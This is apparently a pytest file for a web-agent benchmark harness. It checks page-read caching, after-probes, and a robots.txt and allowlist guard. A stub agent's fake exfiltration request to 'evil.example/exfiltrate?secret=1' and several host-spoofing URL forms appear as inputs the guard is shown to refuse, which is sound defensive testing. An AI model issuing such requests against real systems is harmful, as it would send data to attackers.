"""What a run costs: each page read once (a later read with nothing done in between reuses it,
a changed page is read again), the after-probe only when the answer needs it, and requests the
guard need not see let through without a round trip but still on the record, while everything
else is still refused. Real Chromium against the newsroom."""

from __future__ import annotations

import copy
import time
from urllib.parse import urljoin

import pytest
from protego import Protego

from newsbench_dagster.core.agents.adapters.reference import first_listed_url
from newsbench_dagster.core.agents.protocol import AgentManifest, build_agent
from newsbench_dagster.core.artifacts import LocalArtifactStore
from newsbench_dagster.core.harness.guard import Pacer, guarded_urls, unguarded_urls
from newsbench_dagster.core.harness.runner import Runner, run_tasks
from newsbench_dagster.core.harness.settings import RunSettings
from newsbench_dagster.core.harness.state import RunState
from newsbench_dagster.core.reading import readings as readings_module
from newsbench_dagster.core.reading.readings import Readings
from newsbench_dagster.core.scoring.score import score_run
from newsbench_dagster.core.web.network import RobotsRules

pytestmark = pytest.mark.heavy(15)

REFERENCE = build_agent(AgentManifest(name="reference", version="1", adapter="reference"))


def manifest(name: str) -> AgentManifest:
    return AgentManifest(name=name, version="1", adapter="reference")


class ChangingAgent:
    """Reads the page, changes it by its own means (a step it records, as adapters must), and
    answers at once: the final observation must show the change, not the earlier read."""

    manifest = manifest("changer")

    async def run(self, task, tools):
        await tools.read_page()
        await tools.page.evaluate("document.title = 'Changed by the agent'")
        tools.record("set_title", {}, budgeted=True)
        await tools.answer({"headline": "Changed by the agent"})


class WrongLeadAgent:
    """Answers a lead no observation shows: the after-probe must be looked at."""

    manifest = manifest("wronglead")

    async def run(self, task, tools):
        lead = first_listed_url((await tools.get_metadata())["jsonld"])
        await tools.goto(lead)
        await tools.answer({"headline": "Nothing of the sort", "url": lead})


class OffsiteAgent:
    manifest = manifest("offsite")

    async def run(self, task, tools):
        await tools.goto("http://evil.example/exfiltrate?secret=1")
        await tools.goto(urljoin(task.entry_url, "/private/archive"))


@pytest.fixture(scope="module")
def runs(harbor_today, browser_options, tmp_path_factory):
    day, tasks, robots = harbor_today
    tasks = copy.deepcopy(tasks)
    runner = Runner(
        [REFERENCE, ChangingAgent(), WrongLeadAgent(), OffsiteAgent()],
        options=browser_options,
        robots=robots,
        store=LocalArtifactStore(tmp_path_factory.mktemp("artifacts")),
        # Unpaced, as the benchmarks run: the unguarded fast path is on for the newsroom.
        settings=RunSettings(pace=False, artifacts=(), concurrency=2),
    )
    rows = run_tasks(tasks, day, runner)
    by_id = {t["id"]: t for t in tasks}
    return {(r["agent_name"], r["intent"]): (r, by_id[r["task_id"]]) for r in rows}


def test_a_fast_run_reads_each_page_once_and_is_still_right(runs):
    row, task = runs["reference", "extract_article_metadata"]
    assert score_run(row, task)["success"]
    # The agent's read_page reused the entry observation; the final observation the agent's.
    assert row["observation"]["reads"]["reused"] == 2
    final, entry = row["observation"]["final"], row["observation"]["entry"]
    assert final["page"] == entry["page"] and final["url"] == entry["url"]
    # The article was fetched through the fast path and is on the record with its status.
    fetched = [r for r in row["request_log"] if r["url"] == task["entry_url"]]
    assert fetched and fetched[0]["fetched"] and fetched[0]["status"] == 200


def test_the_after_probe_is_skipped_only_when_the_answer_is_already_right(runs):
    row, task = runs["reference", "find_top_headline"]
    assert score_run(row, task)["success"]
    assert row["observation"]["probes_skipped"] == {"after": [task["entry_url"]]}
    assert not [p for p in row["observation"]["probes"] if p["when"] == "after"]

    wrong, task = runs["wronglead", "find_top_headline"]
    assert not score_run(wrong, task)["success"]
    assert "probes_skipped" not in wrong["observation"]
    after = [p for p in wrong["observation"]["probes"] if p["when"] == "after"]
    assert [p["url"] for p in after] == [task["entry_url"]] and after[0]["obs"]


def test_a_page_changed_since_the_last_read_is_read_again(runs):
    for intent in ("find_top_headline", "extract_article_metadata"):
        row, _ = runs["changer", intent]
        assert row["observation"]["final"]["title"] == "Changed by the agent"
        assert row["observation"]["entry"]["title"] != "Changed by the agent"


def test_the_fast_path_still_refuses_what_the_guard_refuses(runs):
    for intent in ("find_top_headline", "extract_article_metadata"):
        row, task = runs["offsite", intent]
        kinds = sorted(e["kind"] for e in row["safety_events"])
        assert kinds == ["off_allowlist", "robots_disallowed"]
        refused = [r for r in row["request_log"] if "private" in r["url"] or "evil" in r["url"]]
        assert refused and not any(r["fetched"] for r in refused)
        assert score_run(row, task)["failure_class"] == "policy_block"


ROBOTS = "User-agent: *\nDisallow: /private/\nDisallow: /*.pdf$\nDisallow: /x|y\n"


def _patterns(settings: RunSettings, **state):
    origin = "http://harbor.test:8411"
    robots = RobotsRules({origin: Protego.parse(ROBOTS), "http://down.test": None})
    task = {"allowed_origins": [origin, "http://down.test"]}
    unguarded = unguarded_urls(task, RunState(**state), robots, Pacer(settings, robots), None)
    return unguarded, guarded_urls(unguarded)


def test_unguarded_urls_are_only_what_robots_and_the_allowlist_let_through():
    unguarded, guarded = _patterns(RunSettings(pace=False))
    through = ["http://harbor.test:8411/", "http://harbor.test:8411/news/a?page=2"]
    routed = [
        "http://harbor.test:8411/private/x",  # disallowed
        "http://harbor.test:8411/report.pdf",  # a wildcard rule: its prefix (/) routes all...
        "http://harbor.test:8411/x|y",
        "http://harbor.test:8411/a%20b",  # a percent escape: robots decides, not the pattern
        "http://harbor.test:84110/",  # another port
        "http://harbor.test:8411.evil.test/",
        "http://harbor.test:8411@evil.test/",
        "http://down.test/",  # robots.txt unreachable
        "http://evil.test/",
        "data:text/html,hi",
    ]
    # ...except that a wildcard rule's prefix is "/": nothing of that origin goes unseen.
    assert unguarded is None and guarded == "**/*"
    robots_no_wildcard = ROBOTS.replace("Disallow: /*.pdf$\n", "")
    origin = "http://harbor.test:8411"
    rules = RobotsRules({origin: Protego.parse(robots_no_wildcard), "http://down.test": None})
    task = {"allowed_origins": [origin, "http://down.test"]}
    pacer = Pacer(RunSettings(pace=False), rules)
    unguarded = unguarded_urls(task, RunState(), rules, pacer, None)
    guarded = guarded_urls(unguarded)
    for url in through:
        assert unguarded.match(url) and not guarded.match(url), url
    for url in routed[:1] + routed[2:]:
        assert guarded.match(url) and not unguarded.match(url), url


def test_paced_recorded_and_replayed_runs_route_every_request():
    origin = "http://harbor.test:8411"
    rules = RobotsRules({origin: Protego.parse("User-agent: *\nDisallow: /api/\n")})
    task = {"allowed_origins": [origin]}
    fast = unguarded_urls(task, RunState(), rules, Pacer(RunSettings(pace=False), rules), None)
    assert fast is not None and fast.match(origin + "/news")
    paced = Pacer(RunSettings(min_interval={origin: 1.0}), rules)
    assert unguarded_urls(task, RunState(), rules, paced, None) is None
    unpaced = Pacer(RunSettings(pace=False), rules)
    assert unguarded_urls(task, RunState(), rules, unpaced, record=object()) is None
    assert unguarded_urls(task, RunState(recording=object()), rules, unpaced, None) is None


def test_readings_parse_a_document_once_and_reuse_a_read_only_while_it_stands(monkeypatch):
    html = "<html><head><title>T</title></head><body><h1>Headline here</h1></body></html>"
    readings = Readings()
    first = readings.record(html, "http://a.test/x")
    first["headline"] = "tampered"
    assert readings.record(html, "http://a.test/x")["headline"] != "tampered"
    assert readings.hits == 1
    page, read = object(), {"url": "http://a.test/x", "meta": {"k": ["v"]}, "html": html}
    readings.keep(page, read, actions=1, by_agent=True)
    copy_ = readings.fresh(page, "http://a.test/x", 1)
    copy_["meta"]["k"].append("tampered")
    assert readings.fresh(page, "http://a.test/x", 1)["meta"] == {"k": ["v"]}
    assert readings.fresh(object(), "http://a.test/x", 1) is None  # another page
    assert readings.fresh(page, "http://a.test/y", 1) is None  # navigated
    assert readings.fresh(page, "http://a.test/x", 2) is None  # an action since
    readings.keep(page, read, actions=1)  # the harness's own read
    assert readings.fresh(page, "http://a.test/x", 1, agents_only=True) is None
    monkeypatch.setattr(readings_module, "FRESH_S", 0.01)
    time.sleep(0.02)
    assert readings.fresh(page, "http://a.test/x", 1) is None  # too old
